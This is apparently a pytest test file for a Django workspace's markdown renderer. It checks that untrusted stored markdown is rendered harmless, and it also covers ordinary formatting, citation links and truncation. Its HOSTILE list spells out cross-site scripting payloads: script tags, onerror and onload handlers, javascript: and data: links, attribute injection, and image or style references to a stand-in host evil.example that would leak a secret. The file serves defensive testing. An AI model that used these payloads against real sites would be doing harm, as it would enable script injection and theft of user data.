"""Stored markdown is untrusted: what a hostile body may become."""

from html.parser import HTMLParser

import pytest
from django.test import Client

from tests.dashboard.memory import Filled
from workspaces.rendering import MAX_BYTES, render_markdown
from workspaces.templatetags.dashboard import text_fragment

HOSTILE = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "<base href=https://evil.example>",
    '<form id="content" action="https://evil.example"><input name="q"></form>',
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](vbscript:msgbox)",
    "![x](javascript:alert(1))",
    "![x](https://evil.example/p?q=secret)",
    "![x][1]\n\n[1]: https://evil.example/p",
    '![a"onerror="alert(1)](https://evil.example/"onerror="x)',
    "<style>body{background:url(https://evil.example)}</style>",
    "[x](https://ok.example 'title\" onclick=\"alert(1)')",
]


class Elements(HTMLParser):
    """What a browser would make of it: the tags, the attribute names, the addresses."""

    def __init__(self) -> None:
        super().__init__()
        self.tags: set[str] = set()
        self.attributes: set[str] = set()
        self.addresses: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.add(tag)
        self.attributes |= {name for name, _value in attrs}
        self.addresses += [value or "" for name, value in attrs if name == "href"]


@pytest.mark.parametrize("text", HOSTILE)
def test_a_hostile_body_becomes_harmless(text: str) -> None:
    seen = Elements()
    seen.feed(render_markdown(text).html)
    assert seen.tags <= {"p", "a"}
    assert seen.attributes <= {"href", "title", "rel"}
    assert all(address.startswith("https://") for address in seen.addresses)


def test_a_remote_image_becomes_a_link_that_nobody_follows_by_itself() -> None:
    html = render_markdown("![chart](https://pictures.example/a.png)").html
    assert (
        '<a href="https://pictures.example/a.png" rel="noopener noreferrer nofollow">chart</a>'
        in html
    )


def test_ordinary_markdown_keeps_its_shape_below_the_headings_of_the_page() -> None:
    html = render_markdown(
        "# Title\n\n- one\n- **two**\n\n```\ncode\n```\n\n|a|b|\n|-|-|\n|1|2|"
    ).html
    for part in ("<h3>Title</h3>", "<strong>two</strong>", "<pre><code>code", "<td>1</td>"):
        assert part in html


def test_a_cited_id_links_to_its_node_and_no_other_does() -> None:
    mine, other = "01900000-0000-7000-8000-00000000aaaa", "01900000-0000-7000-8000-00000000bbbb"
    html = render_markdown(f"- said [{mine}] [{other}]", citations={mine: "/w/t/w/nodes/1/"}).html
    assert 'href="/w/t/w/nodes/1/"' in html
    assert f"[{other}]" in html


def test_a_long_body_is_cut_between_characters() -> None:
    rendered = render_markdown("网" * MAX_BYTES)
    assert rendered.is_cut
    assert "\ufffd" not in rendered.html


def test_a_hostile_leaf_is_shown_as_text(owner: Client, filled: Filled) -> None:
    page = owner.get(filled.address(f"nodes/{filled.hostile_id}/")).content.decode()
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in page
    ours = '<script type="module" src="/static/holamem/'
    assert page.count("<script") == page.count(ours) == 1
    assert '<img src="https://evil' not in page


def test_a_leaf_names_the_summaries_that_cite_it_and_leads_to_the_sentence(
    owner: Client, filled: Filled
) -> None:
    page = owner.get(filled.address(f"nodes/{filled.leaf_id}/")).content.decode()
    cited = page.split("Who cites it")[1].split("</section>")[0]
    mark = f"→ {str(filled.leaf_id)[-8:]}"
    assert f"nodes/{filled.summary_id}/#:~:text=%E2%86%92%20{mark[2:]}" in cited
    assert mark in owner.get(filled.address(f"nodes/{filled.summary_id}/")).content.decode()


def test_words_of_an_excerpt_are_an_address_that_a_browser_jumps_to() -> None:
    assert text_fragment("Port 8443,\n in e-mail & more") == (
        "#:~:text=Port%208443%2C%20in%20e%2Dmail%20%26%20more"
    )
    assert text_fragment("") == ""
